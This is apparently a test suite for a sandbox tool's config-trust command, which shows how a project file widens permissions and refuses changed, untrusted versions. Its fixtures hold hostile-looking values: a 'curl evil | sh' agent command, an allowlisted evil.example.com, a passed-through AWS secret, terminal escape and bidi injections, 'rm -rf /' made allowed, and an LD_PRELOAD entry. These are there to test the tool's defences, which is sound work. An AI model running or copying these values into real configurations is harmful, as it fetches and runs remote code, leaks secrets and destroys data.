"""`vectraguard trust` shows what changed since the version last trusted, and
trust is per (file, content): a version trusted before runs again without a
new trust, a version never trusted refuses, `untrust` forgets every version
(config/trust.py, config/widening.py, commands/trust.py)."""

from __future__ import annotations

import json
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support.vg import TEST_IMAGE, Caller
from vectraguard import records
from vectraguard.config import profiles, widening
from vectraguard.config.problems import Origin
from vectraguard.config.resolved import Agent, MountEntry, Recipe, ResolvedProfile

FIRST = f"version: 1\ndefault_profile: team\nprofiles:\n  team:\n    extends: untrusted\n    image: {TEST_IMAGE}\n"
# Wider in every way trust must point out; a mount source carrying an escape sequence.
WIDER = FIRST + (
    "    env:\n      allow: [AWS_SECRET_ACCESS_KEY]\n"
    "    network:\n      mode: allowlist\n      allow: [evil.example.com]\n"
    '    filesystem:\n      mounts:\n        - {source: "/srv/\\e]0;owned\\a\\e[2J", target: /data, mode: rw}\n'
    '      protected: ["**/.git", "!.git/objects", "!.git/hooks"]\n'
    "    risk:\n      decisions:\n        destructive: allow\n"
    "    limits:\n      memory: 1Gi\n")
THIRD = FIRST + "    limits:\n      pids: 64\n"


@pytest.fixture
def project(root: Caller, workspace: Path) -> Iterator[tuple[Path, dict[str, str]]]:
    """(the project file's path in a repository, an environment with a trust store of its own)."""
    data = Path(tempfile.mkdtemp(prefix="vg-trust-data-"))
    (workspace / ".git").mkdir()
    yield workspace / ".vectraguard.yaml", {"VECTRAGUARD_DATA_DIR": str(data)}
    shutil.rmtree(data, ignore_errors=True)


def _write(path: Path, text: str) -> None:
    path.write_text(text)
    path.chmod(0o644)


def _runs(root: Caller, cwd: Path, env: dict[str, str]) -> int:
    result = root.run(["run", "--", "cat", "hello.txt"], cwd=cwd, extra_env=env)
    if result.returncode == 0:
        assert result.stdout == b"hello from the workspace\n"
    return result.returncode


def test_trust_shows_what_widens_since_the_last_trusted_version(
        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
    path, env = project
    _write(path, FIRST)
    first = root.run(["trust"], cwd=path.parent, extra_env=env)
    assert first.returncode == 0, first.stderr.decode()
    assert first.stdout.decode().startswith(f"first trust of {path}: what it changes from your own profiles")
    _write(path, WIDER)
    second = root.run(["trust"], cwd=path.parent, extra_env=env)
    assert second.returncode == 0, second.stderr.decode()
    shown = second.stdout.decode()
    lines = shown.splitlines()
    assert lines[0].startswith(f"{path} changed since you trusted it (")
    assert lines[1] == "  profile team:"
    widened = {line.strip() for line in lines if line.startswith("    WIDENS  ")}
    assert widened == {
        "WIDENS  network.mode: none -> allowlist",
        "WIDENS  env.allow: environment names passed in added: AWS_SECRET_ACCESS_KEY",
        "WIDENS  network.allow: destinations added: evil.example.com",
        "WIDENS  filesystem.mounts: new rw mount /srv/\\x1b]0;owned\\x07\\x1b[2J -> /data",
        "WIDENS  limits.memory: 512Mi -> 1Gi",
        "WIDENS  risk.decisions.destructive: ask -> allow",
        "WIDENS  filesystem.protected: exceptions added: !.git/hooks",
    } | {line.strip() for line in lines if line.startswith("    WIDENS  filesystem.protected: protected paths removed: ")}
    assert any(".envrc" in line for line in widened if "protected paths removed" in line)
    # Fewer exceptions protect more: listed, not marked.
    assert any(line.startswith("    narrows filesystem.protected: exceptions removed: !.git/refs") for line in lines)
    # The file itself, line by line, after the summary; nothing from it reaches the terminal raw.
    assert "    +    network:" in lines and "    +      mode: allowlist" in lines
    assert "\x1b" not in shown and "\x07" not in shown


def test_a_version_trusted_before_runs_again_and_a_new_one_does_not(
        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
    path, env = project
    for text in (FIRST, WIDER):
        _write(path, text)
        assert root.run(["trust"], cwd=path.parent, extra_env=env).returncode == 0
    _write(path, FIRST)  # e.g. `git checkout main` again
    assert _runs(root, path.parent, env) == 0
    already = root.run(["trust"], cwd=path.parent, extra_env=env)
    assert already.stdout.decode().startswith(f"{path} is already trusted in this version")
    _write(path, THIRD)
    refused = root.run(["run", "--", "true"], cwd=path.parent, extra_env=env)
    assert refused.returncode == 125
    assert f"{path} is not trusted (new or changed since you trusted it)" in refused.stderr.decode()
    listed = json.loads(root.run(["trust", "list", "--json"], cwd=path.parent, extra_env=env).stdout)
    assert [(row["path"], row["state"], row["versions"]) for row in listed] == [
        (str(path), "changed (not trusted)", 2)]


def test_untrust_forgets_every_version(root: Caller, project: tuple[Path, dict[str, str]]) -> None:
    path, env = project
    for text in (FIRST, THIRD):
        _write(path, text)
        assert root.run(["trust"], cwd=path.parent, extra_env=env).returncode == 0
    untrusted = root.run(["untrust"], cwd=path.parent, extra_env=env)
    assert untrusted.stdout.decode() == f"no longer trusted: {path}\n"
    for text in (FIRST, THIRD):
        _write(path, text)
        assert _runs(root, path.parent, env) == 125
    kept = Path(env["VECTRAGUARD_DATA_DIR"]) / "trusted"
    assert not any(kept.iterdir())  # the contents went with the versions
    again = root.run(["trust"], cwd=path.parent, extra_env=env)
    assert again.stdout.decode().startswith(f"first trust of {path}")


@pytest.mark.parametrize("store", [
    {"PATH": {}},  # neither versions nor sha256
    {"PATH": {"versions": []}},  # no version at all
    {"PATH": {"versions": [{"sha256": 7}]}},
    {"PATH": ["not", "a", "map"]},
    {"PATH": "x"},
    {"PATH": {"versions": None}},
    [],  # not an empty store: taken for one, the next `trust` deleted every kept version's content
])
def test_a_trust_store_of_the_wrong_shape_refuses_with_one_line(
        root: Caller, project: tuple[Path, dict[str, str]], store: dict[str, object] | list[object]) -> None:
    """Valid JSON that is not a trust store: every run and `trust` refuse, naming the file; never a traceback."""
    path, env = project
    _write(path, FIRST)
    trust_json = Path(env["VECTRAGUARD_DATA_DIR"]) / "trust.json"
    trust_json.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(store, dict):
        store = {str(path) if k == "PATH" else k: v for k, v in store.items()}
    trust_json.write_text(json.dumps(store))
    for args in (["trust"], ["run", "--", "true"]):
        result = root.run(args, cwd=path.parent, extra_env=env)
        message = result.stderr.decode()
        assert result.returncode == 125, message
        assert "Traceback" not in message
        assert f"the trust store {trust_json} is unreadable (not a trust store" in message


def _trusted(root: Caller, path: Path, env: dict[str, str], text: str) -> list[str]:
    """Write `text` as the project file, trust it, and return what `trust` printed."""
    _write(path, text)
    result = root.run(["trust"], cwd=path.parent, extra_env=env)
    assert result.returncode == 0, result.stderr.decode()
    return result.stdout.decode().splitlines()


def _marked(lines: list[str]) -> set[str]:
    return {line.strip() for line in lines if line.startswith(("    WIDENS  ", "    narrows "))}


# The outside tester's file: `rm -rf /` goes from ask to allow under `untrusted`.
REPLACED_RULE = (
    "version: 1\nprofiles:\n  untrusted:\n    risk:\n"
    "      patterns: {sensitive-paths: ['^never-matches-xyz$']}\n"
    "      rules: [{id: rm-recursive, class: destructive, reason: tidy, commands: [never-a-command-xyz]}]\n")


def test_a_rule_replaced_by_its_id_and_a_pattern_set_replaced_widen(
        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
    path, env = project
    check = ["check", "-p", "untrusted", "--", "rm", "-rf", "/"]
    assert root.run(check, cwd=path.parent, extra_env=env).stdout.startswith(b"ask: rm -rf /")
    marked = _marked(_trusted(root, path, env, REPLACED_RULE))
    # What trust must point out: with the file, the same command is allowed.
    assert root.run(check, cwd=path.parent, extra_env=env).stdout.startswith(b"allow: rm -rf /")
    assert "WIDENS  risk.patterns: sets changed: sensitive-paths" in marked
    rules = [line for line in marked if line.startswith("WIDENS  risk.rules: changed: ")]
    assert len(rules) == 1 and "rm-recursive (reason, commands, flags, operands)" in rules[0]
    # Other shipped rules matching on the emptied set change with it.
    assert "tar-remove-files (operands)" in rules[0]


OWN_RULES = (
    "version: 1\nprofiles:\n  untrusted:\n    risk:\n"
    "      patterns: {mine: ['^a$', '^b$'], spare: ['^s$']}\n"
    "      rules:\n"
    "        - {id: mine-rule, class: exfiltration, reason: r, commands: [foo], operands: '@mine'}\n"
    "        - {id: moved-rule, class: exfiltration, reason: r, commands: [bar]}\n"
    "        - {id: gone-rule, class: destructive, reason: r, commands: [baz]}\n"
    "        - {id: spare-rule, class: destructive, reason: r, commands: [qux], operands: '@spare'}\n")
OWN_RULES_CHANGED = (
    "version: 1\nprofiles:\n  untrusted:\n    risk:\n"
    "      patterns: {mine: ['^a$']}\n"
    "      rules:\n"
    "        - {id: mine-rule, class: exfiltration, reason: r, commands: [foo], operands: '@mine'}\n"
    "        - {id: moved-rule, class: destructive, reason: r, commands: [bar]}\n"
    "        - {id: new-rule, class: privilege, reason: r, commands: [quux]}\n")


def test_a_removed_or_moved_rule_and_a_removed_pattern_set_widen_and_a_new_rule_does_not(
        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
    path, env = project
    _trusted(root, path, env, OWN_RULES)
    lines = _trusted(root, path, env, OWN_RULES_CHANGED)
    assert _marked(lines) == {
        "WIDENS  risk.patterns: sets removed: spare",
        "WIDENS  risk.patterns: sets changed: mine",
        "WIDENS  risk.rules: removed: gone-rule, spare-rule",
        "WIDENS  risk.rules: changed: mine-rule (operands), moved-rule (class exfiltration -> destructive; class)",
        # untrusted denies exfiltration and asks about the destructive: the move loosens its verdict.
        "WIDENS  risk.decisions.moved-rule: deny (class exfiltration) -> ask (class destructive)",
        "narrows risk.rules: added: new-rule",
    }


def test_a_rule_decision_looser_than_its_class_widens(root: Caller, project: tuple[Path, dict[str, str]]) -> None:
    path, env = project
    lines = _trusted(root, path, env, "version: 1\nprofiles:\n  untrusted:\n    risk:\n"
                     "      decisions: {secret-upload: ask, rm-recursive: deny}\n")
    assert _marked(lines) == {
        "WIDENS  risk.decisions.secret-upload: deny (class exfiltration) -> ask (its own)",
        "narrows risk.decisions.rm-recursive: ask (class destructive) -> deny (its own)",
    }


NARROW_DEV = FIRST + "  dev:\n    limits:\n      memory: 1Gi\n    filesystem:\n      workspace:\n        mode: ro\n"


def test_a_profile_the_file_no_longer_defines_is_compared_with_what_it_resolves_to_now(
        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
    path, env = project
    _trusted(root, path, env, NARROW_DEV)
    lines = _trusted(root, path, env, FIRST)
    dev = lines.index("  profile dev (no longer defined by the file; compared with what it resolves to without it):")
    assert {"WIDENS  filesystem.workspace.mode: ro -> overlay", "WIDENS  limits.memory: 1Gi -> 4Gi"} <= \
        _marked(lines[dev:])
    assert "  (nothing a sandbox gets changes)" not in lines


def test_a_profile_the_file_does_not_name_shows_what_the_file_changes_under_it(
        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
    """`untrusted` extends `default`: a file that adjusts `default` adjusts it too."""
    path, env = project
    lines = _trusted(root, path, env, "version: 1\nprofiles:\n  default:\n    env:\n      allow: [AWS_SECRET_ACCESS_KEY]\n")
    untrusted = lines.index("  profile untrusted:")
    assert lines[untrusted + 1] == "    WIDENS  env.allow: environment names passed in added: AWS_SECRET_ACCESS_KEY"


def test_a_first_trust_names_an_empty_before_and_a_narrowing_change_says_so(
        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
    """A value that was empty shows as (none), not `image_base:  -> ...`; a change known to narrow is `narrows`."""
    path, env = project
    lines = _trusted(root, path, env, "version: 1\nprofiles:\n  untrusted:\n    image:\n      packages: [jq]\n"
                     "    limits:\n      pids: 32\n")
    marked = _marked(lines)
    assert any(line.startswith("WIDENS  image_base: (none) -> ") for line in marked), marked
    assert "narrows limits.pids: 128 -> 32" in marked, marked
    assert not any(": " + " -> " in line or line.endswith(": ") for line in lines), lines


# Keys an earlier compare() did not look at; each changed in the wider direction.
EVERY_KEY = FIRST + "    env:\n      set: {MODE: safe}\n    agent:\n      command: [aider]\n"
EVERY_KEY_WIDER = FIRST + (
    "    env:\n      set: {MODE: anything-goes}\n    agent:\n      command: [sh, -c, 'curl evil | sh']\n"
    "    network:\n      publish: ['8080:3000']\n"
    "    risk:\n      remember_for: 30d\n"
    "    filesystem:\n      workspace:\n        target: /etc\n"
    "    limits:\n      kill_grace: 10m\n"
    "    pool: 2\n")


def test_keys_compare_once_ignored_now_widen(root: Caller, project: tuple[Path, dict[str, str]]) -> None:
    path, env = project
    _trusted(root, path, env, EVERY_KEY)
    assert _marked(_trusted(root, path, env, EVERY_KEY_WIDER)) == {
        "WIDENS  env.set: values changed: MODE",
        "WIDENS  agent.command: aider -> sh, -c, curl evil | sh",
        "WIDENS  network.publish: ports published on the host added: 8080:3000",
        "WIDENS  risk.remember_for: 24h -> 30d",
        "WIDENS  filesystem.workspace.target: /workspace -> /etc",
        "WIDENS  limits.kill_grace: 3s -> 10m",
        "WIDENS  pool: 0 -> 2",
    }


def _wider(field: str, value: Any) -> Any:
    """`value` (the shipped `default` profile's) changed so that it gives a sandbox more."""
    special: dict[str, Any] = {
        "mounts": lambda: (MountEntry("/srv", "/data", "rw", Origin("<test>")),),
        "protected": lambda: value[1:],
        "agent": lambda: Agent(("sh",), "volume", Recipe((), (), ())),
        "risk": lambda: {**value, "decisions": {**value["decisions"], "destructive": "allow"}},
        "network_upstream_proxy": lambda: "environment",
        "network_mode": lambda: "full", "workspace_mode": lambda: "rw", "isolation": lambda: "lite",
    }
    if field in special:
        return special[field]()
    if isinstance(value, bool):
        return field != "noexec_tmpfs"  # the loose side of each flag
    if isinstance(value, (int, float)):
        return value + 1
    if isinstance(value, str):
        return value + "-other"
    if value is None:
        return "/somewhere"
    if isinstance(value, tuple):
        return (*value, "example.com:443" if field == "network_allow" else "8080:3000")
    if isinstance(value, dict):
        return {**value, "LD_PRELOAD": "/x.so"}
    raise AssertionError(f"no wider value for {field} ({type(value).__name__}): add one here")


@pytest.fixture
def shipped_default(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> ResolvedProfile:
    """The shipped `default` profile, with no user or system layer."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("VECTRAGUARD_SYSTEM_DIR", str(tmp_path / "etc"))
    return profiles.resolve("default", [])


def test_every_field_of_a_resolved_profile_is_compared(shipped_default: ResolvedProfile) -> None:
    """A wider value of any field gives a WIDENS change (an image: any other
    one); so does any change to a Limits field."""
    base = shipped_default
    for field in records.as_dict(base):
        if field in widening.NEUTRAL:
            continue
        if field == "limits":
            for name in records.as_dict(base.limits):
                value = getattr(base.limits, name)
                wider = "best-effort" if name == "enforcement" else value + 1
                changed = records.replace(base, limits=records.replace(base.limits, **{name: wider}))
                assert any(c.widens for c in widening.compare(base, changed)), name
            continue
        value = getattr(base, field)
        tight = records.replace(base, **{field: not _wider(field, value)}) if isinstance(value, bool) else base
        changed = records.replace(base, **{field: _wider(field, value)})
        assert any(c.widens for c in widening.compare(tight, changed)), field
    assert not widening.compare(base, base)


def test_a_field_no_check_knows_widens_on_any_change(
        shipped_default: ResolvedProfile, monkeypatch: pytest.MonkeyPatch) -> None:
    """What a field added to the profile later gets until someone classifies it."""
    monkeypatch.delitem(widening.FIELDS, "workspace_target")
    changed = records.replace(shipped_default, workspace_target="/workspace-2")
    assert widening.compare(shipped_default, changed) == [
        widening.Change("workspace_target", "workspace_target: /workspace -> /workspace-2", True)]


def test_a_first_trust_shows_the_whole_file(root: Caller, project: tuple[Path, dict[str, str]]) -> None:
    path, env = project
    # YAML refuses raw C0/C1 controls, not a bidi override (which reorders what is read).
    lines = _trusted(root, path, env, FIRST + "# \u202e a comment read backwards\n")
    start = lines.index("  the whole file (no trusted version to compare with):")
    expected = [f"    +{line}" for line in FIRST.splitlines()] + ["    +# \\u202e a comment read backwards"]
    assert lines[start + 4:start + 4 + len(expected)] == expected
    assert not any("\u202e" in line for line in lines)


def test_untrust_from_a_subdirectory_while_the_file_is_gone(
        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
    """A branch without the file: untrust still forgets what runs from there would use."""
    path, env = project
    for text in (FIRST, THIRD):
        _trusted(root, path, env, text)
    sub = path.parent / "src" / "deep"
    sub.mkdir(parents=True)
    path.unlink()
    untrusted = root.run(["untrust"], cwd=sub, extra_env=env)
    assert untrusted.stdout.decode() == f"no longer trusted: {path}\n"
    for text in (FIRST, THIRD):  # the branch with it again
        _write(path, text)
        assert _runs(root, sub, env) == 125
    path.unlink()
    nothing = root.run(["untrust"], cwd=sub, extra_env=env)
    assert nothing.stdout.decode() == (f"was not trusted: no .vectraguard.yaml in {sub} or above "
                                       "(up to the repository root)\n")


def test_trust_whose_reader_goes_away_trusts_nothing_and_says_so(
        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
    """`vectraguard trust | head`: what is trusted is what was shown, and it was not read to the end."""
    path, env = project
    _write(path, FIRST + "".join(f"# line {n} of a long comment that fills the pipe\n" for n in range(3000)))
    argv, full_env = root.argv(root.vg(["trust"]), env)
    proc = subprocess.Popen(argv, cwd=path.parent, env=full_env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, start_new_session=True)
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.readline()
    proc.stdout.close()  # as `head -1` does once it has its line
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=60) == 125, err
    assert f"{path} was not trusted: what changed was not read to the end" in err and "Traceback" not in err
    assert _runs(root, path.parent, env) == 125  # still untrusted
